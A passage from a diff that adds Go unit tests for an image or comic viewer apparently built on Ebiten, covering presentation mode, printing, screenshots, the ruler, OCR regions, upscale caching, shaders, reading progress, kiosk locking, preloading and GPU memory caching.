+	g.togglePresentation()
+	if !g.IsPresenting() || !g.cursorHidden {
+		t.Fatal("presentation mode should hide the cursor for the laser pointer")
+	}
+	before := NewRenderStateSnapshot(g, 800, 600)
+	g.laserX, g.laserY = 120, 80
+	if p, ok := g.GetLaserPointer(); !ok || p != image.Pt(120, 80) {
+		t.Fatalf("laser pointer = %v, %v", p, ok)
+	}
+	if NewRenderStateSnapshot(g, 800, 600).Equals(before) {
+		t.Fatal("moving the laser pointer must trigger a redraw")
+	}
+
+	var modes []string
+	for range 3 {
+		g.cycleBlankScreen()
+		modes = append(modes, g.GetBlankMode().String())
+		if _, ok := g.GetLaserPointer(); ok != (g.blankMode == BlankOff) {
+			t.Fatalf("laser pointer visible = %v while blank %v", ok, g.blankMode)
+		}
+	}
+	if !slices.Equal(modes, []string{"Black", "White", "Off"}) {
+		t.Fatalf("blank modes = %v", modes)
+	}
+
+	g.toggleLaserPointer()
+	g.updateLaserPointer()
+	if _, ok := g.GetLaserPointer(); ok || g.cursorHidden {
+		t.Fatal("disabling the laser pointer should restore the cursor")
+	}
+	g.togglePresentation()
+	if g.IsPresenting() || g.overlayMessage != "Presentation mode off" {
+		t.Fatalf("after leaving presentation: presenting=%v overlay=%q", g.IsPresenting(), g.overlayMessage)
+	}
+}
+
+func TestPureComposePrintImageMatchesViewTransform(t *testing.T) {
+	red, blue := color.NRGBA{255, 0, 0, 255}, color.NRGBA{0, 0, 255, 255}
+	left := image.NewNRGBA(image.Rect(0, 0, 2, 4))
+	right := image.NewNRGBA(image.Rect(0, 0, 3, 2))
+	for y := range 4 {
+		for x := range 2 {
+			left.SetNRGBA(x, y, red)
+		}
+	}
+	for y := range 2 {
+		for x := range 3 {
+			right.SetNRGBA(x, y, blue)
+		}
+	}
+
+	sheet := composePrintImage([]image.Image{left, right}, 0, false, false)
+	if b := sheet.Bounds(); b.Dx() != 5 || b.Dy() != 4 {
+		t.Fatalf("spread size = %v, want 5x4", b)
+	}
+	// The shorter right page is centered vertically on white
+	for _, tc := range []struct {
+		x, y int
+		want color.NRGBA
+	}{{0, 0, red}, {2, 0, color.NRGBA{255, 255, 255, 255}}, {2, 1, blue}, {4, 2, blue}, {4, 3, color.NRGBA{255, 255, 255, 255}}} {
+		if got := color.NRGBAModel.Convert(sheet.At(tc.x, tc.y)); got != tc.want {
+			t.Errorf("spread pixel (%d,%d) = %v, want %v", tc.x, tc.y, got, tc.want)
+		}
+	}
+
+	// Marker at the top-left of a 3x2 image, tracked through each transform
+	src := image.NewNRGBA(image.Rect(0, 0, 3, 2))
+	src.SetNRGBA(0, 0, red)
+	for _, tc := range []struct {
+		angle        int
+		flipH, flipV bool
+		w, h, mx, my int
+	}{
+		{90, false, false, 2, 3, 1, 0},
+		{180, false, false, 3, 2, 2, 1},
+		{270, false, false, 2, 3, 0, 2},
+		{0, true, false, 3, 2, 2, 0},
+		{90, true, false, 2, 3, 1, 2},
+		{0, false, true, 3, 2, 0, 1},
+	} {
+		got := transformImage(src, tc.angle, tc.flipH, tc.flipV)
+		if got.Bounds().Dx() != tc.w || got.Bounds().Dy() != tc.h || got.NRGBAAt(tc.mx, tc.my) != red {
+			t.Errorf("transform(%d, h=%v, v=%v): size %v, marker at (%d,%d) = %v",
+				tc.angle, tc.flipH, tc.flipV, got.Bounds(), tc.mx, tc.my, got.NRGBAAt(tc.mx, tc.my))
+		}
+	}
+
+	if defaultPrintCommand("linux") != "lp -o fit-to-page {file}" || !strings.HasPrefix(defaultPrintCommand("windows"), "mspaint /p") {
+		t.Fatal("unexpected default print commands")
+	}
+}
+
+func TestPureScreenshotNamingAndDirectory(t *testing.T) {
+	now := time.Date(2024, 5, 6, 7, 8, 9, 123_000_000, time.UTC)
+	for _, tc := range []struct {
+		p    ImagePath
+		want string
+	}{
+		{ImagePath{Path: "/photos/cat.jpg"}, "nv_20240506_070809_123_cat.png"},
+		{ImagePath{Path: "b.zip:ch1/002.webp", ArchivePath: "b.zip", EntryPath: "ch1/002.webp"}, "nv_20240506_070809_123_002.png"},
+		{ImagePath{}, "nv_20240506_070809_123.png"},
+	} {
+		if got := screenshotFileName(tc.p, now); got != tc.want {
+			t.Errorf("screenshotFileName(%q) = %q, want %q", tc.p.Path, got, tc.want)
+		}
+	}
+
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	if got := screenshotDir(""); got != home {
+		t.Fatalf("default without Pictures = %q, want %q", got, home)
+	}
+	if err := os.Mkdir(filepath.Join(home, "Pictures"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if got := screenshotDir(""); got != filepath.Join(home, "Pictures") {
+		t.Fatalf("default = %q, want Pictures", got)
+	}
+	if got := screenshotDir("~/shots"); got != filepath.Join(home, "shots") {
+		t.Fatalf("~ expansion = %q", got)
+	}
+	if got := screenshotDir("/tmp/x"); got != "/tmp/x" {
+		t.Fatalf("configured = %q", got)
+	}
+}
+
+func TestPureMeasureConvertsToImagePixelsAndUnits(t *testing.T) {
+	// 300 screen px at 2x zoom is 150 image px; up-right is a positive angle
+	l := measureLine{Start: image.Pt(100, 400), End: image.Pt(280, 160), Scale: 2}
+	m := l.measure()
+	if m.DX != 90 || m.DY != -120 || m.Distance != 150 || math.Abs(m.Angle-53.13) > 0.01 {
+		t.Fatalf("measurement = %+v", m)
+	}
+	if got := formatMeasurement(m, 0); got != "150.0 px  53.1°  (90 × 120)" {
+		t.Fatalf("pixels only = %q", got)
+	}
+	if got := formatMeasurement(m, 300); !strings.HasSuffix(got, "12.7 mm / 0.50 in @ 300 dpi") {
+		t.Fatalf("with dpi = %q", got)
+	}
+	if a := (measureLine{Start: image.Pt(10, 10), End: image.Pt(0, 10), Scale: 1}).measure().Angle; a != 180 {
+		t.Fatalf("leftward angle = %v", a)
+	}
+
+	g := &Game{
+		imageManager: &stubImageManager{paths: []ImagePath{{Path: "a.png"}}, images: []DisplayImage{testDisplayImage(4, 4)}},
+		zoomState:    NewZoomState(),
+		renderer:     &Renderer{view: viewTransform{Scale: 0.5}},
+	}
+	g.toggleMeasure()
+	if !g.IsMeasuring() {
+		t.Fatal("ruler mode not entered")
+	}
+	before := NewRenderStateSnapshot(g, 800, 600)
+	g.measureFrom(10, 10)
+	if _, ok := g.GetMeasureLine(); ok {
+		t.Fatal("a click without a drag should not show a ruler")
+	}
+	if !g.measureTo(10, 60) || g.measureTo(10, 60) {
+		t.Fatal("measureTo should report only actual movement")
+	}
+	l, ok := g.GetMeasureLine()
+	if !ok || l.measure().Distance != 100 {
+		t.Fatalf("ruler = %+v, %v", l, ok)
+	}
+	if NewRenderStateSnapshot(g, 800, 600).Equals(before) {
+		t.Fatal("dragging the ruler must trigger a redraw")
+	}
+
+	if g.updateMeasure() {
+		t.Fatal("ruler cleared without a view change")
+	}
+	g.renderer.view.Scale = 1
+	if !g.updateMeasure() {
+		t.Fatal("zooming should clear the ruler")
+	}
+	if _, ok := g.GetMeasureLine(); ok {
+		t.Fatal("ruler still shown after zoom")
+	}
+}
+
+func TestPureGuideLinesFollowDisplayedImage(t *testing.T) {
+	view := viewTransform{Scale: 0.5, OffsetX: 100, OffsetY: 50, Width: 300, Height: 150}
+	thirds := guideLines(GuideThirds, view, 100)
+	want := []guideLine{{200, 50, 200, 200}, {300, 50, 300, 200}, {100, 100, 400, 100}, {100, 150, 400, 150}}
+	if !slices.Equal(thirds, want) {
+		t.Fatalf("thirds = %v", thirds)
+	}
+	if center := guideLines(GuideCenter, view, 100); !slices.Equal(center, []guideLine{{250, 50, 250, 200}, {100, 125, 400, 125}}) {
+		t.Fatalf("center = %v", center)
+	}
+	// 100 image px at half zoom is a 50 px cell: 5 inner vertical, 2 horizontal
+	if grid := guideLines(GuideGrid, view, 100); len(grid) != 7 || grid[0].X0 != 150 || grid[5].Y0 != 100 {
+		t.Fatalf("grid = %v", grid)
+	}
+	if grid := guideLines(GuideGrid, viewTransform{Scale: 0.01, Width: 300, Height: 150}, 100); grid != nil {
+		t.Fatalf("grid finer than the screen should be skipped, got %d lines", len(grid))
+	}
+
+	if c, err := parseHexColor("#ff8000"); err != nil || c != (color.NRGBA{255, 128, 0, 255}) {
+		t.Fatalf("#ff8000 = %v, %v", c, err)
+	}
+	if c, err := parseHexColor("#00FFFF99"); err != nil || c != (color.NRGBA{0, 255, 255, 0x99}) {
+		t.Fatalf("#00FFFF99 = %v, %v", c, err)
+	}
+	for _, bad := range []string{"red", "#12345", "#GGGGGG", "00FFFF"} {
+		if _, err := parseHexColor(bad); err == nil {
+			t.Fatalf("%q should be rejected", bad)
+		}
+	}
+}
+
+func TestPureOCRRegionFromRulerAndCanvas(t *testing.T) {
+	view := viewTransform{Scale: 0.5, OffsetX: 100, OffsetY: 50, Width: 400, Height: 200}
+	// Drawn right to left and past the image edge: clamped and normalized
+	r, ok := ocrRegionFromLine(measureLine{Start: image.Pt(600, 100), End: image.Pt(200, 150)}, view)
+	if !ok || r != (ocrRegion{X0: 0.25, Y0: 0.25, X1: 1, Y1: 0.5}) {
+		t.Fatalf("region = %+v, %v", r, ok)
+	}
+	if _, ok := ocrRegionFromLine(measureLine{Start: image.Pt(0, 0), End: image.Pt(90, 300)}, view); ok {
+		t.Fatal("a rectangle left of the image should not select anything")
+	}
+	if got := r.rect(image.Rect(0, 0, 810, 400)); got != image.Rect(202, 100, 810, 200) {
+		t.Fatalf("rect = %v", got)
+	}
+	if got := (ocrRegion{}).rect(image.Rect(0, 0, 8, 4)); got != image.Rect(0, 0, 8, 4) {
+		t.Fatalf("zero region = %v", got)
+	}
+
+	// The canvas matches the book mode layout, gap included
+	left := image.NewNRGBA(image.Rect(0, 0, 4, 6))
+	right := image.NewNRGBA(image.Rect(0, 0, 3, 2))
+	for i := range right.Pix {
+		right.Pix[i] = []uint8{255, 0, 0, 255}[i%4]
+	}
+	canvas := composePages([]image.Image{left, right}, imageGap)
+	if canvas.Bounds() != image.Rect(0, 0, 4+imageGap+3, 6) {
+		t.Fatalf("canvas = %v", canvas.Bounds())
+	}
+	if got := canvas.NRGBAAt(4+imageGap, 2); got != (color.NRGBA{255, 0, 0, 255}) || canvas.NRGBAAt(4+imageGap-1, 2).G != 255 {
+		t.Fatalf("right page should start after the gap, got %v", got)
+	}
+
+	if got := cleanOCRText("Hello\r\nworld\n\n\f"); got != "Hello\nworld" {
+		t.Fatalf("clean = %q", got)
+	}
+	if cmds := clipboardCommands("linux", true); cmds[0][0] != "wl-copy" || len(cmds) != 3 {
+		t.Fatalf("wayland clipboard commands = %v", cmds)
+	}
+	if cmds := clipboardCommands("linux", false); cmds[0][0] != "xclip" {
+		t.Fatalf("x11 clipboard commands = %v", cmds)
+	}
+}
+
+func TestPureUpscaleBuiltinCachesAndKeepsLogicalSize(t *testing.T) {
+	dir := t.TempDir()
+	src := image.NewNRGBA(image.Rect(0, 0, 8, 6))
+	for i := range src.Pix {
+		src.Pix[i] = 128
+	}
+	path := filepath.Join(dir, "small.png")
+	if err := writeImageFile(path, src); err != nil {
+		t.Fatal(err)
+	}
+	// Flat areas are left alone by the unsharp mask
+	if got := sharpen(src, upscaleSharpenAmount); !bytes.Equal(got.Pix, src.Pix) {
+		t.Fatal("sharpen changed a flat image")
+	}
+
+	// Whole seconds, so rewriting the source below can restore it exactly
+	modTime := time.Unix(1_700_000_000, 0)
+	if err := os.Chtimes(path, modTime, modTime); err != nil {
+		t.Fatal(err)
+	}
+	job := upscaleJob{Path: ImagePath{Path: path}, Mode: upscaleBuiltin, Factor: 2, CacheDir: filepath.Join(dir, "cache")}
+	img, bounds, cached, err := runUpscaleJob(job)
+	if err != nil || cached || img.Bounds().Size() != image.Pt(16, 12) || bounds.Size() != image.Pt(8, 6) {
+		t.Fatalf("first run: %v %v cached=%v err=%v", img.Bounds(), bounds, cached, err)
+	}
+	if _, _, cached, err := runUpscaleJob(job); err != nil || !cached {
+		t.Fatalf("second run should hit the disk cache: cached=%v err=%v", cached, err)
+	}
+	// A cache hit takes the original size from the cache and never decodes
+	// the source
+	if err := os.WriteFile(path, []byte("not an image"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chtimes(path, modTime, modTime); err != nil {
+		t.Fatal(err)
+	}
+	if _, b, cached, err := runUpscaleJob(job); err != nil || !cached || b.Size() != image.Pt(8, 6) {
+		t.Fatalf("cache hit with an unreadable source: %v cached=%v err=%v", b, cached, err)
+	}
+	if err := writeImageFile(path, src); err != nil {
+		t.Fatal(err)
+	}
+	job.Factor = 3
+	if _, _, cached, _ := runUpscaleJob(job); cached {
+		t.Fatal("a different factor must not reuse the cached result")
+	}
+	// Pruning keeps the most recently used entries within the limit
+	entries, _ := os.ReadDir(job.CacheDir)
+	if len(entries) != 2 {
+		t.Fatalf("cache entries = %d, want 2", len(entries))
+	}
+	old := filepath.Join(job.CacheDir, entries[0].Name())
+	if err := os.Chtimes(old, time.Unix(1, 0), time.Unix(1, 0)); err != nil {
+		t.Fatal(err)
+	}
+	newest, _ := entries[1].Info()
+	pruneUpscaleCache(job.CacheDir, newest.Size())
+	if _, err := os.Stat(old); !os.IsNotExist(err) {
+		t.Fatalf("oldest entry survived pruning: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(job.CacheDir, entries[1].Name())); err != nil {
+		t.Fatalf("newest entry was pruned: %v", err)
+	}
+
+	up, err := newUpscaledDisplayImage(img, bounds)
+	if err != nil || up.Bounds() != image.Rect(0, 0, 8, 6) || displayTextureScale(up) != 2 {
+		t.Fatalf("upscaled display image = %v scale %v, %v", up.Bounds(), displayTextureScale(up), err)
+	}
+
+	original := testDisplayImage(8, 6)
+	g := &Game{
+		imageManager: &stubImageManager{paths: []ImagePath{{Path: path}}, images: []DisplayImage{original}},
+		config:       Config{Upscale: upscaleBuiltin},
+		fullscreen:   true,
+		upscale:      newUpscaler(),
+	}
+	g.upscale.store(upscaleResult{Key: path, Bounds: bounds, Image: up})
+	if g.displayImageAt(0) != up {
+		t.Fatal("fullscreen page should use the upscaled version")
+	}
+	g.fullscreen = false
+	if g.displayImageAt(0) != original {
+		t.Fatal("windowed page should use the original")
+	}
+	g.fullscreen = true
+	g.imageManager.(*stubImageManager).images[0] = testDisplayImage(400, 300) // Placeholder
+	if g.displayImageAt(0) == up {
+		t.Fatal("upscaled version used for an image of another size")
+	}
+
+	for i := range upscaleMemoryEntries + 1 {
+		g.upscale.store(upscaleResult{Key: fmt.Sprint("p", i)}, path)
+	}
+	if _, ok := g.upscale.entries[path]; !ok || len(g.upscale.entries) != upscaleMemoryEntries {
+		t.Fatalf("eviction kept %d entries, on-screen page kept=%v", len(g.upscale.entries), ok)
+	}
+}
+
+func TestPureDisplayFiltersClampAndCompile(t *testing.T) {
+	g := &Game{zoomState: NewZoomState()}
+	for range 20 {
+		g.changeSharpen(sharpenStep)
+		g.changeDenoise(-denoiseStep)
+	}
+	if s, d := g.GetDisplayFilters(); s != maxSharpen || d != 0 {
+		t.Fatalf("filters = %v, %v", s, d)
+	}
+	g.changeDenoise(denoiseStep)
+	if g.overlayMessage != "Sharpen: 3.00  Denoise: 0.1" {
+		t.Fatalf("overlay = %q", g.overlayMessage)
+	}
+
+	if descreenSigma(1) != 0 || descreenSigma(2) != 0 || descreenSigma(0.5) != 1.2 || descreenSigma(0.01) != maxDescreenSigma {
+		t.Fatalf("descreen sigma = %v %v %v", descreenSigma(1), descreenSigma(0.5), descreenSigma(0.01))
+	}
+	g.toggleDescreen()
+	if !g.IsDescreening() || g.overlayMessage != "Descreen: ON (when zoomed out)" {
+		t.Fatalf("descreen = %v, overlay %q", g.IsDescreening(), g.overlayMessage)
+	}
+
+	if _, err := ebiten.NewShader([]byte(displayFilterShader)); err != nil {
+		t.Fatalf("display filter shader: %v", err)
+	}
+}
+
+func TestPureCustomShaderLoadsRelativeToConfigAndReportsErrors(t *testing.T) {
+	dir := t.TempDir()
+	const sepia = `//kage:unit pixels
+package main
+
+var Time float
+
+func Fragment(dstPos vec4, srcPos vec2, color vec4) vec4 {
+	return imageSrc0At(srcPos) * (0.9 + 0.1*sin(Time))
+}
+`
+	if err := os.WriteFile(filepath.Join(dir, "sepia.kage"), []byte(sepia), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	g := &Game{
+		zoomState:  NewZoomState(),
+		configPath: filepath.Join(dir, "viewer.json"),
+		config:     Config{CustomShader: "sepia.kage"},
+	}
+	g.initCustomShader()
+	shader, uniforms := g.GetCustomShader()
+	if shader == nil || !g.customShaderRedraw() {
+		t.Fatalf("shader = %v, animated = %v", shader, g.customShaderAnimated)
+	}
+	if _, ok := uniforms["Time"].(float32); !ok {
+		t.Fatalf("uniforms = %v", uniforms)
+	}
+	g.toggleCustomShader()
+	if shader, _ := g.GetCustomShader(); shader != nil || g.overlayMessage != "Custom shader: OFF" {
+		t.Fatalf("after toggle shader = %v, overlay %q", shader, g.overlayMessage)
+	}
+
+	if err := os.WriteFile(filepath.Join(dir, "sepia.kage"), []byte("package main\nfunc Fragment("), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	g.toggleCustomShader()
+	if shader, _ := g.GetCustomShader(); shader != nil || !strings.HasPrefix(g.overlayMessage, "Shader error: ") {
+		t.Fatalf("broken shader = %v, overlay %q", shader, g.overlayMessage)
+	}
+}
+
+func TestPureReadingProgressTracksPagesTimeAndPace(t *testing.T) {
+	tempDir := t.TempDir()
+	for i := range 10 {
+		name := filepath.Join(tempDir, fmt.Sprintf("%02d.png", i))
+		if err := os.WriteFile(name, []byte("x"), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	storePath := filepath.Join(t.TempDir(), progressFileName)
+	g := &Game{
+		imageManager: &stubImageManager{},
+		zoomState:    NewZoomState(),
+		progress:     loadProgressStore(storePath),
+	}
+	if !g.openPaths([]string{tempDir}, "test") {
+		t.Fatal("open failed")
+	}
+
+	// Read four pages at 30 s each, then leave the last one open for an hour
+	start := time.Now().Add(time.Hour)
+	for i := range 4 {
+		g.setCurrentIndex(i)
+		g.calculateDisplayContent()
+		g.trackReadingProgress(start.Add(time.Duration(i) * 30 * time.Second))
+	}
+	g.setCurrentIndex(0)
+	g.calculateDisplayContent()
+	g.trackReadingProgress(start.Add(90*time.Second + time.Hour))
+
+	stats := g.GetReadingStats()
+	if stats.Read != 4 || stats.Total != 10 || stats.Percent() != 40 {
+		t.Fatalf("stats = %+v", stats)
+	}
+	if stats.SessionPages != 5 || stats.SessionTime != 90*time.Second+maxPageDwell {
+		t.Fatalf("session = %d pages in %v", stats.SessionPages, stats.SessionTime)
+	}
+	if stats.PagePace != stats.SessionTime/5 || stats.Remaining() != 6*stats.PagePace {
+		t.Fatalf("pace = %v, remaining %v", stats.PagePace, stats.Remaining())
+	}
+	if got := stats.Summary(); got != "This volume: 40% read, ~4 min remaining at current pace" {
+		t.Fatalf("summary = %q", got)
+	}
+
+	g.saveReadingProgress()
+	entry := loadProgressStore(storePath).Get(stats.Volume)
+	if len(entry.Pages) != 4 || entry.Total != 10 || entry.Seconds != stats.VolumeTime.Seconds() {
+		t.Fatalf("saved entry = %+v", entry)
+	}
+}
+
+func TestPureReadingTimerShowsProgressAndOptionallyAdvances(t *testing.T) {
+	paths := []ImagePath{{Path: "/p/1.png"}, {Path: "/p/2.png"}}
+	images := []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4)}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		config:       Config{ReadingTimerSeconds: 4},
+	}
+	g.calculateDisplayContent()
+
+	if _, ok := g.GetReadingTimer(); ok {
+		t.Fatal("timer should start off")
+	}
+	g.toggleReadingTimer()
+	g.advanceReadingTimer(time.Second)
+	if progress, ok := g.GetReadingTimer(); !ok || progress != 0.25 || readingTimerStep(progress, ok) != 50 {
+		t.Fatalf("progress = %v, %v", progress, ok)
+	}
+
+	// Without auto-advance the bar stays full on the page
+	if g.advanceReadingTimer(10*time.Second) || g.idx != 0 {
+		t.Fatalf("idx = %d, timer should not turn pages", g.idx)
+	}
+	if progress, _ := g.GetReadingTimer(); progress != 1 {
+		t.Fatalf("progress after time up = %v", progress)
+	}
+
+	g.config.ReadingTimerAdvance = true
+	g.readingTimerElapsed = 0
+	g.advanceReadingTimer(3 * time.Second)
+	if !g.advanceReadingTimer(time.Second) || g.idx != 1 {
+		t.Fatalf("idx = %d, want auto-advance to 1", g.idx)
+	}
+	g.advanceReadingTimer(4 * time.Second)
+	if g.readingTimerActive || g.overlayMessage != "Reading timer finished" {
+		t.Fatalf("timer active = %v, overlay %q", g.readingTimerActive, g.overlayMessage)
+	}
+}
+
+func TestPureKioskBlocksActionsUntilUnlockedAndLoopsSlideshow(t *testing.T) {
+	paths := []ImagePath{{Path: "/p/1.png"}, {Path: "/p/2.png"}}
+	images := []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4)}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		config:       Config{SlideshowSeconds: 1, KioskSlideshow: true},
+	}
+	g.calculateDisplayContent()
+	g.startKiosk()
+	if !g.IsKioskLocked() || !g.slideshowActive {
+		t.Fatalf("locked = %v, slideshow = %v", g.IsKioskLocked(), g.slideshowActive)
+	}
+
+	for _, action := range []string{"exit", "rename", "toggle_settings", "fullscreen"} {
+		if globalActionExecutor.ExecuteAction(action, g, g) {
+			t.Fatalf("%s ran while locked", action)
+		}
+	}
+	if g.exitRequested || g.showSettings {
+		t.Fatal("blocked actions changed state")
+	}
+
+	g.advanceSlideshow(time.Second)
+	if !g.advanceSlideshow(time.Second) || g.idx != 0 || !g.slideshowActive {
+		t.Fatalf("idx = %d, active = %v; slideshow should loop to the first page", g.idx, g.slideshowActive)
+	}
+	if !globalActionExecutor.ExecuteAction("next", g, g) || g.idx != 1 {
+		t.Fatalf("next while locked: idx = %d", g.idx)
+	}
+
+	globalActionExecutor.ExecuteAction("kiosk_unlock", g, g)
+	if g.IsKioskLocked() || g.overlayMessage != "Kiosk unlocked" {
+		t.Fatalf("locked = %v, overlay %q", g.IsKioskLocked(), g.overlayMessage)
+	}
+	globalActionExecutor.ExecuteAction("exit", g, g)
+	if !g.exitRequested {
+		t.Fatal("exit should run once unlocked")
+	}
+}
+
+func TestPurePreloadIndicesSkipShownPagesAndFetchWholeSpreads(t *testing.T) {
+	pm := &PreloadManager{maxPreload: 3}
+	single := PreloadLayout{Shown: 1, Step: 1}
+	spread := PreloadLayout{Shown: 2, Step: 2}
+	tests := []struct {
+		name      string
+		direction NavigationDirection
+		layout    PreloadLayout
+		want      []int
+	}{
+		{"single forward", NavigationForward, single, []int{11, 12, 13}},
+		{"spread forward", NavigationForward, spread, []int{12, 13, 14, 15}},
+		{"spread backward", NavigationBackward, spread, []int{9, 8, 7, 6}},
+		{"spread jump", NavigationJump, spread, []int{12, 13, 9, 8}},
+		{"zero layout", NavigationForward, PreloadLayout{}, []int{11, 12, 13}},
+	}
+	for _, tt := range tests {
+		if got := pm.calculatePreloadIndices(10, tt.direction, tt.layout, 20); !slices.Equal(got, tt.want) {
+			t.Errorf("%s: indices = %v, want %v", tt.name, got, tt.want)
+		}
+	}
+
+	paths := []ImagePath{{Path: "/p/1.png"}, {Path: "/p/2.png"}, {Path: "/p/3.png"}}
+	images := []DisplayImage{testDisplayImage(4, 6), testDisplayImage(4, 6), testDisplayImage(4, 6)}
+	imageManager := &stubImageManager{paths: paths, images: images}
+	g := &Game{
+		imageManager: imageManager,
+		zoomState:    NewZoomState(),
+		bookMode:     true,
+		config:       Config{AspectRatioThreshold: 1.5, RightToLeft: true},
+	}
+	g.calculateDisplayContent()
+	if imageManager.preloadLayout != spread {
+		t.Fatalf("right-to-left spread layout = %+v", imageManager.preloadLayout)
+	}
+}
+
+func TestPureUploadBudgetSpreadsUploadsAcrossFrames(t *testing.T) {
+	ctx := context.Background()
+	budget := newUploadBudget(100)
+
+	// Nothing waits before the first frame
+	if !budget.acquire(ctx, 80) || !budget.acquire(ctx, 80) {
+		t.Fatal("uploads before the first frame should not wait")
+	}
+
+	budget.nextFrame()
+	if !budget.acquire(ctx, 60) {
+		t.Fatal("first upload should fit")
+	}
+
+	// The second upload waits for the next frame
+	done := make(chan bool)
+	go func() { done <- budget.acquire(ctx, 60) }()
+	select {
+	case <-done:
+		t.Fatal("upload over budget did not wait")
+	case <-time.After(20 * time.Millisecond):
+	}
+	budget.nextFrame()
+	if !<-done {
+		t.Fatal("upload should proceed in the next frame")
+	}
+
+	// Oversized uploads get a fresh frame; charged loads never wait
+	budget.nextFrame()
+	if !budget.acquire(ctx, 500) {
+		t.Fatal("oversized upload should get a whole frame")
+	}
+	budget.charge(10)
+
+	// Without frames, waiting ends after maxUploadWait
+	start := time.Now()
+	if !budget.acquire(ctx, 60) || time.Since(start) < maxUploadWait {
+		t.Fatalf("acquire returned after %v", time.Since(start))
+	}
+
+	cancelled, cancel := context.WithCancel(ctx)
+	cancel()
+	if budget.acquire(cancelled, 60) {
+		t.Fatal("acquire should stop with its context")
+	}
+
+	budget.setPerFrame(0)
+	if !budget.acquire(ctx, 1<<40) {
+		t.Fatal("a zero budget disables pacing")
+	}
+}
+
+func TestPureWarmUpLoadsFirstPagesInParallel(t *testing.T) {
+	dir := t.TempDir()
+	var paths []ImagePath
+	for i := range 5 {
+		path := filepath.Join(dir, fmt.Sprintf("%d.png", i))
+		if err := writeImageFile(path, image.NewNRGBA(image.Rect(0, 0, 4, 4))); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, ImagePath{Path: path})
+	}
+	manager := newDefaultImageManager(8)
+	t.Cleanup(manager.StopPreload)
+	manager.SetPaths(paths)
+
+	manager.WarmUp(1, 3)
+	deadline := time.Now().Add(10 * time.Second)
+	for manager.cache.Len() < 3 && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+	}
+	for i, p := range paths {
+		_, cached := manager.cache.Peek(manager.cacheKeyFor(p))
+		if want := i >= 1 && i <= 3; cached != want {
+			t.Errorf("page %d cached = %v, want %v", i, cached, want)
+		}
+	}
+}
+
+func TestPureGPUMemoryCapEvictsOldestPagesButKeepsShownOnes(t *testing.T) {
+	manager := newDefaultImageManager(16)
+	t.Cleanup(manager.StopPreload)
+	var paths []ImagePath
+	for i := range 4 {
+		paths = append(paths, ImagePath{Path: fmt.Sprintf("page%d.png", i)})
+	}
+	manager.SetPaths(paths)
+
+	const pageBytes = 100 * 100 * 4
+	manager.SetShownPages(0)
+	for _, p := range paths[:3] {
+		manager.addToCache(manager.cacheKeyFor(p), testDisplayImage(100, 100))
+	}
+	if got := manager.GetGPUMemory(); got.Used != 3*pageBytes || got.Limit != 0 {
+		t.Fatalf("GetGPUMemory() = %+v, want %d bytes unlimited", got, 3*pageBytes)
+	}
+
+	manager.SetGPUMemoryCap(2*pageBytes + pageBytes/2)
+	if _, ok := manager.cache.Peek(manager.cacheKeyFor(paths[1])); ok {
+		t.Fatal("oldest hidden page should be evicted when the cap is lowered")
+	}
+	if _, ok := manager.cache.Peek(manager.cacheKeyFor(paths[0])); !ok {
+		t.Fatal("shown page should survive the cap")
+	}
+
+	manager.addToCache(manager.cacheKeyFor(paths[3]), testDisplayImage(100, 100))
+	for i, want := range []bool{true, false, false, true} {
+		if _, ok := manager.cache.Peek(manager.cacheKeyFor(paths[i])); ok != want {
+			t.Errorf("page %d cached = %v, want %v", i, ok, want)
+		}
+	}
+	if got := manager.GetGPUMemory().Used; got != 2*pageBytes {
+		t.Fatalf("used = %d, want %d", got, 2*pageBytes)
+	}
+
+	manager.RenamePath(3, "renamed.png")
+	manager.InvalidateImage(0)
+	if got := manager.GetGPUMemory().Used; got != pageBytes {
+		t.Fatalf("used after rename and invalidate = %d, want %d", got, pageBytes)
+	}
+	if got := (GPUMemoryStats{Used: 300 << 20, Limit: 512 << 20}).String(); got != "GPU 300/512 MB" {
+		t.Fatalf("String() = %q", got)
+	}
+}
+
+func TestPureCacheKeysSeparateEntriesAndFollowFileChanges(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	if err := writeImageFile(filepath.Join(dir, "page.png"), image.NewNRGBA(image.Rect(0, 0, 4, 4))); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(filepath.Join(dir, "sub"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	relative := newImageCacheKey(ImagePath{Path: "page.png"})
+	dotted := newImageCacheKey(ImagePath{Path: filepath.Join("sub", "..", "page.png")})
+	if relative != dotted || relative.Size == 0 {
+		t.Fatalf("keys for one file differ: %+v vs %+v", relative, dotted)
+	}
+
+	entry := newImageCacheKey(ImagePath{Path: "a.zip:b:c.png", ArchivePath: "a.zip", EntryPath: "b:c.png"})
+	other := newImageCacheKey(ImagePath{Path: "a.zip:b:c.png", ArchivePath: "a.zip:b", EntryPath: "c.png"})
+	if entry == other {
+		t.Fatalf("archive entries with ':' collide: %+v", entry)
+	}
+
+	manager := newDefaultImageManager(4)
+	t.Cleanup(manager.StopPreload)
+	page := ImagePath{Path: "page.png"}
+	manager.SetPaths([]ImagePath{page})
+	key := manager.cacheKeyFor(page)
+	manager.addToCache(key, testDisplayImage(4, 4))
+	if manager.GetImage(0) == manager.loadingPlaceholder {
+		t.Fatal("cached page should be returned")
+	}
+	manager.ConsumeAsyncRefresh()
+
+	if err := writeImageFile(filepath.Join(dir, "page.png"), image.NewNRGBA(image.Rect(0, 0, 8, 8))); err != nil {
+		t.Fatal(err)
+	}
+	manager.cacheKeys.mu.Lock()
+	manager.cacheKeys.entries[page] = checkedCacheKey{key: key}
+	manager.cacheKeys.mu.Unlock()
+	if newKey := manager.cacheKeyFor(page); newKey == key {
+		t.Fatalf("rewritten file kept key %+v", key)
+	}
